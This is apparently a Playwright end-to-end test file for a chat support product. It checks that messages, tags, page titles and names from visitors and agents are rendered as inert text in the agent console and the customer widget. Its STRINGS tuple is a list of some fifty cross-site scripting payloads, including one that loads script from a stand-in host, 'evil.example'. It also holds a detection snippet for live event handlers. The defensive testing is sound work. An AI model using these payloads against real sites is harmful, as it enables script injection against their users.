"""Text that wants to be a script stays text, wherever a conversation shows it.

Danger: whoever writes to a company writes into its agents' browsers. Rule: text becomes a text node, an address a link only when it is http(s) or mail.
"""

from __future__ import annotations

from typing import Final

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from chat.live.protocol.shapes import Author, AuthorKind
from chat.models import Conversation
from chat.personal import Page as ShopPage
from chat.services import assignment, lifecycle, messages
from security.masking import mask
from security.scoping import tenant_scope
from tenants.models import Membership, Site
from tests.tenants.people import Organisation

from .conftest import EnterConsole, VisitShop
from .talks import begin

CALL: Final = "alert(1)"
STRINGS: Final = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>import('data:text/javascript,alert(1)')</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror='{CALL}' //",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x:x onerror\n=\n{CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a>",
    f"<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={CALL} src=1>'>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}>",
    f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{CALL}",
    f"https://x.example/'onmouseover={CALL}//",
    f'https://x.example/"onmouseover="{CALL}',
    f"https://x.example/<script>{CALL}</script>",
    f"https://user:javascript:{CALL}@x.example/",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<form><button formaction=javascript:{CALL}>x</button></form>",
    f"<base href=javascript:{CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<link rel=stylesheet href=data:,*{{x:expression({CALL})}}>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<template><script>{CALL}</script></template>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"<!--><img src=x onerror={CALL}>-->",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\u202e<script>{CALL}</script>",
)
ALIVE: Final = """() => [...document.querySelectorAll('*')].filter((element) =>
  [...element.attributes].some(({name}) => name.startsWith('on')) || /^\\W*(javascript|data|vbscript):/i.test(element.getAttribute('href') ?? '')
).map((element) => element.outerHTML)"""


def watch(page: Page) -> list[str]:
    """The dialogs that scripts opened."""
    opened: list[str] = []

    def asked(dialog: object) -> None:
        opened.append(str(dialog))

    page.on("dialog", asked)
    return opened


def alive_on(page: Page) -> list[str]:
    """Elements that could run something."""
    return [html for frame in page.frames for html in frame.evaluate(ALIVE)]


@pytest.fixture
def hostile_talks(acme: Organisation) -> Organisation:
    """A conversation for each string, with it in every place that a visitor or an agent can fill; Alice has them all."""
    grant = acme.grant("alice")
    for text in STRINGS:
        page = ShopPage(url=text, title=text, referrer=text)
        conversation = begin(acme, text[:120], text, email=text, page=page)
        now = timezone.now()
        with tenant_scope(acme.tenant_id):
            assignment.claim(grant=grant, conversation=conversation, now=now)
            lifecycle.tag_conversation(
                grant=grant, conversation=conversation, add=[mask(" ".join(text.split())[:40])], remove=()
            )
            row = Conversation.objects.select_for_update().get(public_id=conversation)
            author = Author(AuthorKind.NOTE, grant.membership_public_id, grant.name)
            messages.append(row, author=author, text=mask(text), now=now)
    return acme


def test_the_console_shows_it_as_text(hostile_talks: Organisation, enter_console: EnterConsole) -> None:
    assert len(STRINGS) >= 40
    alice = enter_console("alice", viewport={"width": 1360, "height": 900})
    dialogs = watch(alice.page)
    alice.page.keyboard.press("g")
    alice.page.keyboard.press("m")
    expect(alice.page.locator("#tab-mine .count")).to_have_text(str(len(STRINGS)))
    for _ in STRINGS:
        before = alice.page.url
        alice.page.keyboard.press("j")
        alice.page.wait_for_url(lambda url, before=before: url != before)
        expect(alice.log.locator("[data-kind=note] .bubble")).to_be_visible()
        expect(alice.page.locator("[data-visitor-pane] .tag")).to_have_count(1)
        assert alive_on(alice.page) == []
    assert dialogs == []


def test_the_widget_shows_it_as_text(acme: Organisation, visit_shop: VisitShop) -> None:
    with tenant_scope(acme.tenant_id):
        Site.objects.update(greeting=STRINGS[7])
        Membership.objects.filter(name="Alice").update(name=STRINGS[7])
    visitor = visit_shop()
    dialogs = watch(visitor.page)
    visitor.page.evaluate("text => { document.title = text; Chat.setAttributes({name: text}); }", STRINGS[0])
    visitor.open()
    visitor.say(STRINGS[9])
    grant = acme.grant("alice")
    with tenant_scope(acme.tenant_id):
        row = Conversation.objects.select_for_update().get()
        assignment.claim(grant=grant, conversation=row.public_id, now=timezone.now())
        for text in STRINGS:
            row = Conversation.objects.select_for_update().get()
            author = Author(AuthorKind.AGENT, grant.membership_public_id, grant.name)
            messages.append(row, author=author, text=mask(text), now=timezone.now())
    visitor.page.reload()
    visitor.open()
    expect(visitor.bubbles).to_have_count(len(STRINGS) + 1)
    shown = visitor.chat.locator("[data-message] [data-text]").all_text_contents()
    assert [" ".join(text.split()) for text in shown[1:]] == [" ".join(str(mask(text)).split()) for text in STRINGS]
    assert alive_on(visitor.page) == []
    assert dialogs == []
